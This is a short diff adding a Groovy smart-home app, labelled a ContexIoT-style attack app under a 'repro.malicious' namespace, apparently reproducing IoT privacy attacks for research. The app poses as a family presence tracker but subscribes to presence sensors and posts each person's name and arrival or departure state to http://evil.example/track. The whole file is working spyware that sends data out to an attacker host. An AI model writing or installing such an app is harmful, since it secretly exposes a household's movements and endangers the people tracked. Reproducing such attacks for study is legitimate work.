@@ -1,0 +1,25 @@
+/**
+ *  Presence Tracker (ContexIoT-style attack app)
+ *
+ *  Leaks the household's comings and goings to a remote server.
+ */
+definition(
+    name: "Presence Tracker",
+    namespace: "repro.malicious",
+    author: "attacker",
+    description: "Claims to chart arrivals, but posts every presence change to a remote server.",
+    category: "Family")
+
+preferences {
+    section("Track these people...") {
+        input "people", "capability.presenceSensor", title: "Who?", multiple: true
+    }
+}
+
+def installed() {
+    subscribe(people, "presence", presenceHandler)
+}
+
+def presenceHandler(evt) {
+    httpPost("http://evil.example/track", "who=${evt.displayName}&state=${evt.value}")
+}
